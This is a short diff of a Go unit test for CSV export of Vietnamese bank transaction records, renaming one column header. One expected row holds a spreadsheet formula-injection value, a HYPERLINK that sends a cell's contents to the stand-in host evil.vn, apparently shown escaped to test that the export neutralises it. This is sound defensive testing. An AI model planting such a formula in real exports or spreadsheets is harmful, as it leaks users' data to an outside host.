@@ -76,7 +76,7 @@ func TestCSV(t *testing.T) {
 	must(t, err)
 	want := [][]string{
 		{"Mã baoco", "Thời gian", "Ngân hàng", "Số tài khoản", "Tiền vào", "Tiền ra", "Nội dung", "Mã giao dịch", "Ghi nhận lúc",
-			"Ngày giờ là lúc nhận", "Ghi chú cửa hàng", "Mã thanh toán"},
+			"Giờ ước lượng (1 = lấy giờ nhận)", "Ghi chú cửa hàng", "Mã thanh toán"},
 		{"1", "2026-11-21 10:59:00", "ACB", "0072413870", "1549000", "", "DH10293 thanh toán", "FT00A", "2026-11-21 11:00:01", "0", "", ""},
 		{"2", "2026-11-21 10:59:01", "ACB", "0072413870", "", "1549001", `'=HYPERLINK("http://evil.vn?"&A1,"x")`, "FT00B",
 			"2026-11-21 11:00:01", "0", "", ""},
